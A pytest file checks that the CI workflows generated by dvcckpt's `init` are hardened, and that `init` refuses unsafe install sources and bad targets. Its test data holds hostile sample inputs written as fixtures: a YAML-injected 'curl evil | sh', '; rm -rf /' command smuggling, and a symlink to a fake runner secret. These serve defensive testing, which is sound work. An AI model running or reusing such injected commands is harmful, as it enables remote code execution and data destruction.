"""The workflows `init` writes (and the project's own CI) are safe to run on pull requests
from anyone: pinned install and actions, no token left behind, no expression in a script,
timeouts, and the report posted by a `workflow_run` follow-up that treats it as untrusted.
Also `init` on bad targets: a clear refusal and nothing written."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
import yaml

from dvcckpt.errors import StateError, UsageError
from dvcckpt.present.report import MARKER
from dvcckpt.setup import pinning, scaffold
from tests.conftest import git
from tests.corpus import assert_user_error, changed, snapshot

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = (
    ".github/workflows/dvcckpt.yml",
    ".github/workflows/dvcckpt-comment.yml",
    ".github/workflows/dvcckpt-publish.yml",
)
COMMIT = "0123456789abcdef0123456789abcdef01234567"
USES = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("init") / "project"
    scaffold.init(root)
    return root


def load(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = yaml.safe_load(path.read_text())
    # PyYAML reads the key `on` as YAML 1.1's boolean true.
    if True in document:
        document["on"] = document.pop(True)
    return document


def every_workflow(generated: Path) -> list[Path]:
    return [generated / name for name in WORKFLOWS] + [ROOT / ".github/workflows/ci.yml"]


def steps(document: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in document["jobs"].values() for step in job["steps"]]


def test_every_action_is_pinned_by_full_commit_with_its_tag(generated: Path) -> None:
    for path in every_workflow(generated):
        used = [step["uses"] for step in steps(load(path)) if "uses" in step]
        assert used, path
        assert all(USES.match(action) for action in used), (path, used)
        for line in path.read_text().splitlines():
            if "uses:" in line:  # the tag the commit was taken from, for humans and updaters
                assert re.search(r"@[0-9a-f]{40} # v[0-9]+\.[0-9]+\.[0-9]+$", line), line


def test_checkouts_keep_no_credentials_and_jobs_time_out(generated: Path) -> None:
    for path in every_workflow(generated):
        document = load(path)
        for step in steps(document):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, path
        for name, job in document["jobs"].items():
            assert 0 < int(job["timeout-minutes"]) <= 60, (path, name)
        assert "permissions" in document, path


def test_no_expression_is_interpolated_into_a_script(generated: Path) -> None:
    for path in every_workflow(generated):
        for step in steps(load(path)):
            for code in (step.get("run"), step.get("with", {}).get("script")):
                assert code is None or "${{" not in code, (path, step.get("name"))


def test_pull_requests_run_with_a_read_only_token_and_no_pull_request_target(
    generated: Path,
) -> None:
    for path in every_workflow(generated):
        assert "pull_request_target" not in load(path)["on"], path
    checks = load(generated / WORKFLOWS[0])
    assert list(checks["on"]) == ["pull_request"]
    assert checks["permissions"] == {"contents": "read"}
    assert all("permissions" not in job for job in checks["jobs"].values())
    uploads = [s for s in steps(checks) if s.get("uses", "").startswith("actions/upload-artifact@")]
    assert [s["with"]["name"] for s in uploads] == ["dvcckpt-report"]
    assert not [s for s in steps(checks) if "github-script" in s.get("uses", "")]


def test_the_comment_is_posted_by_a_workflow_run_follow_up(generated: Path) -> None:
    checks, comment = (load(generated / name) for name in WORKFLOWS[:2])
    assert comment["on"] == {
        "workflow_run": {"workflows": [checks["name"]], "types": ["completed"]}
    }
    assert comment["permissions"] == {}
    [job] = comment["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert "github.event.workflow_run.event == 'pull_request'" in job["if"]
    assert not [s for s in job["steps"] if "actions/checkout@" in s.get("uses", "")]
    [download] = [s for s in job["steps"] if "download-artifact@" in s.get("uses", "")]
    assert download["with"]["name"] == "dvcckpt-report"
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"


def test_only_pushes_to_the_branch_publish_and_only_that_step_holds_secrets(
    generated: Path,
) -> None:
    """The publish workflow never runs for a pull request (its code is unreviewed), is
    idle until the warehouse variable is set, and hands secrets to one step's env."""
    text = (generated / WORKFLOWS[2]).read_text()
    publish = load(generated / WORKFLOWS[2])
    branch = git(generated, "symbolic-ref", "--short", "HEAD").strip()
    assert publish["on"] == {"push": {"branches": [branch]}}
    assert publish["permissions"] == {"contents": "read"}
    [job] = publish["jobs"].values()
    assert job["if"] == "vars.DVCCKPT_WAREHOUSE != ''" and "permissions" not in job
    holders = [s for s in job["steps"] if "secrets." in json.dumps(s)]
    assert [s["run"] for s in holders] == ["dvcckpt catalog publish"]
    assert text.count("secrets.") == 3 and "github.token" not in text
    [install] = [s for s in job["steps"] if "DVCCKPT_REQUIREMENT" in s.get("env", {})]
    version = metadata.version("dvcckpt")
    assert install["env"]["DVCCKPT_REQUIREMENT"] == f"dvcckpt[org]=={version}"


def install_step(root: Path) -> dict[str, Any]:
    [step] = [
        s for s in steps(load(root / WORKFLOWS[0])) if "DVCCKPT_REQUIREMENT" in s.get("env", {})
    ]
    assert step["run"] == 'pip install --disable-pip-version-check "$DVCCKPT_REQUIREMENT"'
    return step


def test_the_workflow_installs_exactly_the_running_dvcckpt(generated: Path) -> None:
    version = metadata.version("dvcckpt")
    assert install_step(generated)["env"]["DVCCKPT_REQUIREMENT"] == f"dvcckpt=={version}"
    assert (
        f"installs exactly dvcckpt {version} from the index"
        in (generated / WORKFLOWS[0]).read_text()
    )


@pytest.mark.parametrize(
    ("source", "requirement"),
    [
        ("1.2.3", "dvcckpt==1.2.3"),
        ("dvcckpt==2.0.0rc1", "dvcckpt==2.0.0rc1"),
        (f"git+https://github.com/org/dvcckpt@{COMMIT}",
         f"dvcckpt @ git+https://github.com/org/dvcckpt@{COMMIT}"),
        (f"dvcckpt @ git+https://git.example.com:8443/ml/dvcckpt.git@{COMMIT}",
         f"dvcckpt @ git+https://git.example.com:8443/ml/dvcckpt.git@{COMMIT}"),
    ],
)  # fmt: skip
def test_a_chosen_source_is_pinned(tmp_path: Path, source: str, requirement: str) -> None:
    scaffold.init(tmp_path / "p", install_source=source)
    assert install_step(tmp_path / "p")["env"]["DVCCKPT_REQUIREMENT"] == requirement
    publish = steps(load(tmp_path / "p" / WORKFLOWS[2]))
    [pinned] = [
        s["env"]["DVCCKPT_REQUIREMENT"]
        for s in publish
        if "DVCCKPT_REQUIREMENT" in s.get("env", {})
    ]
    assert pinned == requirement.replace("dvcckpt", "dvcckpt[org]", 1)


@pytest.mark.parametrize(
    "source",
    ["dvcckpt", "dvcckpt>=1.0", "1.0.*", "1.0+local", "evil==1.0", "git+https://github.com/o/r@main",
     "git+https://github.com/o/r@abc123", f"git+http://github.com/o/r@{COMMIT}",
     f"git+https://ada:TOKEN@github.com/o/r@{COMMIT}", f"git+file:///tmp/r@{COMMIT}",
     '1.0"\n        run: curl evil | sh', f"git+https://github.com/o/r@{COMMIT} ; rm -rf /"],
)  # fmt: skip
def test_an_unpinned_or_unsafe_source_is_refused_before_anything_is_written(
    tmp_path: Path, source: str
) -> None:
    with pytest.raises(UsageError, match="not a pinned dvcckpt") as caught:
        scaffold.init(tmp_path / "p", install_source=source)
    assert "TOKEN" not in caught.value.message
    assert not (tmp_path / "p").exists()


class _Installed:
    version = "9.9.9"

    def __init__(self, origin: dict[str, Any] | None) -> None:
        self.origin = origin

    def read_text(self, name: str) -> str | None:
        return json.dumps(self.origin) if self.origin is not None else None


@pytest.mark.parametrize(
    ("origin", "requirement"),
    [
        (None, "dvcckpt==9.9.9"),  # from the index
        ({"url": "file:///src/dvcckpt", "dir_info": {"editable": True}}, "dvcckpt==9.9.9"),
        ({"url": "https://github.com/org/dvcckpt", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
         f"dvcckpt @ git+https://github.com/org/dvcckpt@{COMMIT}"),
        ({"url": "ssh://git@github.com/org/dvcckpt", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
         "dvcckpt==9.9.9"),  # not fetchable by the workflow as is
    ],
)  # fmt: skip
def test_the_default_source_is_where_the_running_dvcckpt_came_from(
    monkeypatch: pytest.MonkeyPatch, origin: dict[str, Any] | None, requirement: str
) -> None:
    monkeypatch.setattr(metadata, "distribution", lambda name: _Installed(origin))
    assert pinning.running().requirement == requirement


# -- the comment script, run by node against a fake GitHub API -------------------------------------

HARNESS = """
const fs = require("fs");
const scenario = JSON.parse(fs.readFileSync(process.argv[2], "utf8"));
const calls = [];
const github = {
  paginate: async () => scenario.comments,
  rest: {
    pulls: { get: async (args) => { calls.push(["get", args.pull_number]); return { data: scenario.pr }; } },
    issues: {
      listComments: () => {},
      updateComment: async (args) => calls.push(["update", args.comment_id, args.body]),
      createComment: async (args) => calls.push(["create", args.issue_number, args.body]),
    },
  },
};
const core = { setFailed: (message) => calls.push(["failed", message]) };
const context = { repo: { owner: "o", repo: "r" }, payload: { workflow_run: scenario.run } };
(async () => {
SCRIPT
})().then(
  () => console.log(JSON.stringify(calls)),
  (error) => console.log(JSON.stringify([...calls, ["error", String(error.message)]])),
);
"""
HEAD = {"sha": "a" * 40, "repo": {"full_name": "fork/r"}}
RUN = {"head_sha": "a" * 40, "head_repository": {"full_name": "fork/r"}}
BOT = {"login": "github-actions[bot]", "type": "Bot"}


@pytest.fixture
def post(generated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    if shutil.which("node") is None:
        pytest.skip("needs node")
    [step] = [
        s for s in steps(load(generated / WORKFLOWS[1])) if "github-script" in s.get("uses", "")
    ]
    program = tmp_path / "post.js"
    program.write_text(HARNESS.replace("SCRIPT", step["with"]["script"]))
    folder = tmp_path / "runner-temp" / "dvcckpt-report"
    folder.mkdir(parents=True)

    def run(report: str | None, number: str = "7\n", **scenario: Any) -> list[list[Any]]:
        (folder / "pr-number").write_text(number)
        if report is not None:
            (folder / "dvcckpt-report.md").write_text(report)
        data = {"pr": {"state": "open", "head": HEAD}, "run": RUN, "comments": [], **scenario}
        (tmp_path / "scenario.json").write_text(json.dumps(data))
        done = subprocess.run(
            ["node", str(program), str(tmp_path / "scenario.json")], capture_output=True,
            text=True, check=True, timeout=60, env={**os.environ, "RUNNER_TEMP": str(folder.parent)},
        )  # fmt: skip
        return list(json.loads(done.stdout))

    run.folder = folder  # type: ignore[attr-defined]
    return run


def test_the_report_updates_only_the_bots_own_marked_comment(post) -> None:
    marked = MARKER + "\nold"
    comments = [
        {"id": 1, "body": marked, "user": {"login": "mallory", "type": "User"}},
        {"id": 2, "body": marked, "user": {"login": "github-actions[bot]", "type": "User"}},
    ]
    assert post(MARKER + "\nnew\n", comments=comments) == [
        ["get", 7],
        ["create", 7, MARKER + "\nnew\n"],
    ]
    comments.append({"id": 3, "body": marked, "user": BOT})
    assert post(MARKER + "\nnew\n", comments=comments)[-1] == ["update", 3, MARKER + "\nnew\n"]


def test_an_untrusted_report_mentions_nobody(post) -> None:
    body = post(MARKER + "\ncc @org/admins and @ada; a &#124; b, @\u200dbob\n")[-1][2]
    assert body == MARKER + "\ncc @\u200dorg/admins and @\u200dada; a &#124; b, @\u200dbob\n"


def test_an_untrusted_report_is_capped_and_marked(post) -> None:
    calls = post("x" * 200_000 + "🙂" * 10)
    body = calls[-1][2]
    assert len(body) <= 65536 and body.startswith(MARKER + "\n") and "comment size limit" in body


@pytest.mark.parametrize(
    ("scenario", "failure"),
    [
        ({"number": "7; rm -rf /"}, "not a pull request number"),
        ({"number": "0"}, "not a pull request number"),
        ({"run": {**RUN, "head_sha": "b" * 40}}, "is not the one the dvcckpt run checked"),
        ({"run": {**RUN, "head_repository": {"full_name": "other/r"}}}, "is not the one"),
        ({"pr": {"state": "closed", "head": HEAD}}, "is not the one"),
    ],
)
def test_a_report_for_another_pull_request_is_refused(
    post, scenario: dict[str, Any], failure: str
) -> None:
    calls = post(MARKER + "\nreport", **scenario)
    assert not [c for c in calls if c[0] in ("create", "update")]
    assert failure in calls[-1][1]


def test_a_report_that_is_a_symlink_or_too_large_is_not_read(post, tmp_path: Path) -> None:
    secret = tmp_path / "runner-secret"
    secret.write_text("RUNNER_TOKEN=abc")
    (post.folder / "dvcckpt-report.md").symlink_to(secret)
    calls = post(None)
    assert calls[-1][0] == "error" and "not a regular file" in calls[-1][1]
    assert not [c for c in calls if c[0] in ("create", "update")]
    (post.folder / "dvcckpt-report.md").unlink()
    assert post("y" * (4 * 65536 + 1))[-1][0] == "error"


# -- init on bad targets ---------------------------------------------------------------------------


def test_init_refuses_a_file(tmp_path: Path, cli) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("keep me\n")
    before = snapshot(tmp_path)
    for path in (target, target / "sub"):
        result = cli("init", str(path))
        assert result.code == 2
        assert_user_error(result.code, result.err, names=(str(target), "is a file"))
    assert changed(before, snapshot(tmp_path)) == []


def test_init_in_a_subfolder_of_a_repository_refuses_to_nest_one(repo: Path, cli) -> None:
    (repo / "sub").mkdir()
    before = snapshot(repo)
    for path in (repo / "sub", repo / "new/deeper"):
        result = cli("init", str(path))
        assert result.code == 4
        assert_user_error(result.code, result.err, names=(str(path), str(repo)))
        assert f"dvcckpt init {repo}" in result.err
    result = cli("init", str(repo / ".git"))
    assert_user_error(result.code, result.err, names=(".git",))
    assert changed(before, snapshot(repo)) == [] and not (repo / "new").exists()


def test_init_refuses_before_writing_when_a_destination_cannot_be_created(tmp_path: Path) -> None:
    target = tmp_path / "p"
    target.mkdir()
    (target / ".github").write_text("a file where the workflows' folder goes\n")
    before = snapshot(tmp_path)
    with pytest.raises(StateError, match=r"\.github is a file"):
        scaffold.init(target)
    assert changed(before, snapshot(tmp_path)) == []  # no .git, no .dvc, no half set-up


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes anywhere")
def test_init_refuses_an_unwritable_folder(tmp_path: Path, cli) -> None:
    target = tmp_path / "locked"
    target.mkdir()
    target.chmod(0o555)
    try:
        result = cli("init", str(target))
        assert_user_error(result.code, result.err, names=(str(target), "not writable"))
        assert list(target.iterdir()) == []
    finally:
        target.chmod(0o755)


def test_init_writes_allowed_signers_only_inside_the_repository(repo: Path, tmp_path: Path) -> None:
    from tests.conftest import git
    from tests.test_signing_setup import keygen

    key = keygen(tmp_path)
    git(repo, "config", "gpg.format", "ssh")
    git(repo, "config", "user.signingkey", str(key.with_suffix(".pub")))
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / ".dvcckpt").symlink_to(outside)  # the named file would land outside the repository
    (repo / "dvcckpt.yaml").write_text(
        "version: 1\nproject: p\npromotion:\n  allowed_signers: .dvcckpt/allowed_signers\n"
    )
    actions = {a.path: a.what for a in scaffold.init(repo)}
    assert list(outside.iterdir()) == []
    assert ".dvcckpt/allowed_signers" not in actions


def test_init_install_source_option_pins_the_workflow_install(tmp_path: Path, cli) -> None:
    target = tmp_path / "proj"
    result = cli("init", str(target), "--install-source", "dvcckpt==9.8.7")
    assert result.code == 0, result.err
    workflow = (target / ".github/workflows/dvcckpt.yml").read_text()
    assert 'DVCCKPT_REQUIREMENT: "dvcckpt==9.8.7"' in workflow
    refused = cli("init", str(tmp_path / "other"), "--install-source", "dvcckpt>=9")
    assert_user_error(refused.code, refused.err, names=("dvcckpt>=9",))
    assert not (tmp_path / "other").exists()
